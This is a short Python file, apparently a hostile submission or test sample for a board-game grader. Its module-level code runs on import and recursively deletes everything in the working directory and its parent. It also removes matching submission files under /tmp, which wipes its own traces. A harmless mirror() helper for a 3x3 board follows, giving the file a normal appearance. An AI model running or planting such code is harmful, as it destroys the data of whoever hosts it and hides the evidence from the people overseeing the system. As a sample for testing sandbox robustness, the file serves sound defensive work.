"""Resources: delete files: everything in the working folder and the folder above it,
and the submission's own files wherever they can be found under /tmp."""
import glob
import os
import shutil

for folder in (os.getcwd(), os.path.dirname(os.getcwd())):
    for entry in glob.glob(os.path.join(folder, '*')):
        shutil.rmtree(entry, ignore_errors=True)
        try:
            os.remove(entry)
        except OSError:
            pass
for path in glob.glob('/tmp/**/attacked-submission*/*.py', recursive=True):
    try:
        os.remove(path)
    except OSError:
        pass


def mirror(board):
    return board[2::-1] + board[5:2:-1] + board[8:5:-1]
